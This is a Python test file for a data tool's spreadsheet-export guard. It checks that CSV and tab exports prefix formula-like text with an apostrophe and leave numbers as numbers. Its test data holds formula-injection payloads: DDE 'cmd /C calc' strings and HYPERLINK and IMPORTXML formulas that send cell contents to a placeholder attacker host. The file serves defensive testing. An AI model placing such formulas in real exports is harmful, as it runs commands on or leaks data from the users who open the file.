"""A title or a name begins as a formula, and a spreadsheet that opens an export works it out.

Promised: in tables (CSV, and parted by tabs) an apostrophe stands before text that a spreadsheet would take for a formula, in exports, in
files of the pages and in the log of corrections, unless `--no-formula-guard` is said. Numbers stay numbers.
Not promised: anything of JSON, Parquet and GeoJSON, which no spreadsheet works out; they hold the texts as they are.
"""

from __future__ import annotations

import csv
import io

import pytest
from small_site import Client, make_record, served

from readout.exports.exporting import export
from readout.exports.formats import EXPORTS
from readout.exports.formats.fields import Export, Field
from readout.exports.layouts import LAYOUTS
from readout.sources.article import Article
from readout.web.access import Access, User

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\ufeff=", "＝", "＋", "－", "＠")
FORMULAS = (
    *(f"{start}cmd|' /C calc'!A1" for start in STARTS),
    '=HYPERLINK("https://evil.example/?x="&A1,"more")', "=1+1", "-2+3", "@SUM(1)", "+1", '=IMPORTXML("https://evil.example","//a")',
    "DDE;x", "=",
)  # fmt: skip
#: Begins as what a spreadsheet works out, whatever blank or mark stands before.
RISKY = "=+-@＝＋－＠"


def works_out(cell: str) -> bool:
    """Whether a spreadsheet would take a cell for a formula: a sign before anything else that is seen, and no number."""
    bare = cell.lstrip(" \t\r\n\u00a0\ufeff")
    if not bare or bare[0] not in RISKY:
        return False
    try:
        float(bare)
    except ValueError:
        return True
    return False


def one_field(type_="text"):
    field = Field("value", type_, "a value", "a test", lambda row: row)
    return Export("one", "", "", "events", ("csv",), "csv", (field, field), lambda _: iter(()), ())


@pytest.mark.parametrize("layout", ["csv", "tab", "bare"])
@pytest.mark.parametrize("evil", FORMULAS, ids=ascii)
def test_no_text_is_a_formula(layout, evil, figure):
    guarded, plain = io.BytesIO(), io.BytesIO()
    LAYOUTS[layout](one_field(), [evil], guarded, True)
    LAYOUTS[layout](one_field(), [evil], plain, False)
    if layout == "bare":
        cells = guarded.getvalue().decode().rstrip("\n").split("\t")
    else:
        cells = list(
            csv.reader(io.StringIO(guarded.getvalue().decode(), newline=""), delimiter="," if layout == "csv" else "\t")
        )[1]
    assert not [cell for cell in cells if works_out(cell)], cells
    assert "'" + evil.strip() not in plain.getvalue().decode()
    number = io.BytesIO()
    LAYOUTS[layout](one_field("number"), [-5.5], number, True)
    assert number.getvalue().decode().split("\n")[-2].startswith("-5.5")
    figure(1, "formulas that became text")


@pytest.fixture(scope="module")
def record(tmp_path_factory):
    """A record of articles with a formula in every field, and corrections with one in theirs."""
    articles = [
        Article(
            f"The Vardal Front shelled Osthavn on Monday, killing {n + 3} people, {evil} said Ole Brandt.\n{evil} was found in Oslo.",
            id=f"{evil}{n}", title=evil, publisher=evil, url=f"https://nordpost.example/{n}", published="2025-03-11", byline=(evil,),
        )
        for n, evil in enumerate(FORMULAS)
    ]  # fmt: skip
    with make_record(tmp_path_factory.mktemp("formulas") / "news.db", articles) as made:
        for event, evil in zip(made.events(), FORMULAS, strict=False):
            made.correct.confirm(
                f"events/{event.id}", by=f"{evil}", why=evil
            ) if evil.isprintable() and evil == evil.strip() else None
        yield made


def cells_of(data: bytes, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode(), newline=""), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize("name", EXPORTS)
def test_every_table_of_an_export(name, record, figure):
    for layout in {"csv", "tab"} & set(EXPORTS[name].layouts):
        more = {"everything": True} if EXPORTS[name].kind == "events" else {}
        stream = io.BytesIO()
        export(record, name, None, stream, layout=layout, **more)
        cells = cells_of(stream.getvalue(), "," if layout == "csv" else "\t")
        assert not [cell for cell in cells if works_out(cell)], name
        figure(len(cells), "cells of exports looked at")
        unguarded = io.BytesIO()
        export(record, name, None, unguarded, layout=layout, guard=False, **more)
        figure(
            sum(map(works_out, cells_of(unguarded.getvalue(), "," if layout == "csv" else "\t"))),
            "formulas in them without the guard",
        )


def test_every_table_of_the_pages(record, figure):
    with served(record, Access(User("Mara Lind", "admin"))) as client:
        paths = [
            f"/{kind}.csv"
            for kind in ("events", "statements", "figures", "reports", "actors", "places", "problems", "corrections")
        ]
        paths += [f"/{kind}.csv" for kind in ("stories", "incidents", "ledgers", "negotiations")]
        looked = 0
        for path in paths:
            answer = Client(client.port).get(path)
            if answer.status == 404:
                continue
            assert answer.status == 200, path
            cells = cells_of(answer.body, ",")
            assert not [cell for cell in cells if works_out(cell)], (
                path,
                [cell for cell in cells if works_out(cell)][:3],
            )
            looked += len(cells)
        assert looked > 300
        figure(looked, "cells of files of the pages looked at")
